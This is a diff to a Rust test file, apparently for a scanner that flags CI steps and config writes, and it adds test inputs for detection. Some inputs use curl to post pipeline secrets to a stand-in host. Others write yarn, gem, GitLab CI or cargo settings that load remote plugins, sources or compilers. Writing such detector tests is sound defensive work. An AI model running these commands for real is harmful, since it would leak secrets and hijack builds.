@@ -42,6 +42,8 @@ fn secrets_of_a_pipeline_go_out_whatever_quotes_stand_around_them() {
         "|\n       # don't\n       curl -d '${{ secrets.X }}' http://h.example/",
         "|\n       curl -d 'a\n       ${{ secrets.X }}' http://h.example/",
         "curl -d \"$(echo '${{ secrets.X }}')\" http://h.example/",
+        "|\n       cat <<A\n       don't\n       A\n       curl -d '${{ secrets.X }}' http://h.example/",
+        "|\n       curl -d @- http://h.example/ <<'A'\n       ${{ secrets.X }}\n       A",
     ] {
         assert!(goes(&step(run), "secret"), "{run}: {:#?}", inspect(&step(run)));
     }
@@ -121,6 +123,11 @@ fn settings_name_who_is_asked_and_what_is_run() {
             "printf '[env]\\nRUSTC_WRAPPER = \"/tmp/x\"\\n' > .cargo/config.toml",
             "printf '[source.x]\\ndirectory = \"/tmp/vendor\"\\n' > .cargo/config.toml",
             "printf 'yarnPath: /tmp/x.cjs\\n' > .yarnrc.yml",
+            "printf 'plugins:\\n  - path: /tmp/x.cjs\\n    spec: a\\n' > .yarnrc.yml",
+            "printf 'plugins:\\n  - path: .yarn/x.cjs\\n    spec: https://h.example/x.cjs\\n' > .yarnrc.yml",
+            "printf ':sources:\\n- https://h.example/\\n' > ~/.gemrc",
+            "printf 'a: &b c\\ninclude:\\n - https://h.example/x.yml\\n' > .gitlab-ci.yml",
+            "printf '[env]\\nCC = \"/tmp/x\"\\n' > .cargo/config.toml",
             "printf 'preload = [\"/tmp/x.ts\"]\\n' > bunfig.toml",
             "printf 'post-build-hook = /tmp/x\\n' > ~/.config/nix/nix.conf",
             "printf 'Types: deb\\nURIs: http://h.example/debian\\n' > /etc/apt/sources.list.d/x.sources",
@@ -146,6 +153,7 @@ fn settings_name_who_is_asked_and_what_is_run() {
             "printf '[target.x]\\nrunner = \"scripts/run.sh\"\\n' > .cargo/config.toml",
             "printf '[source.x]\\ndirectory = \"vendor\"\\n' > .cargo/config.toml",
             "printf 'yarnPath: .yarn/releases/yarn-4.cjs\\n' > .yarnrc.yml",
+            "printf 'a: &b c\\ninclude:\\n - /ci/x.yml\\nimage: https://h.example/x\\n' > .gitlab-ci.yml",
             "printf 'include:\\n - local: a.yml\\n - template: x.yml\\n' > .gitlab-ci.yml",
             "printf 'repos:\\n- repo: https://github.com/psf/black\\n  rev: v1\\n- repo: local\\n' > .pre-commit-config.yaml",
             "printf '[defaults]\\ninventory = /home/user/project/hosts\\nroles_path = roles:~/.ansible/roles\\n' > ansible.cfg",
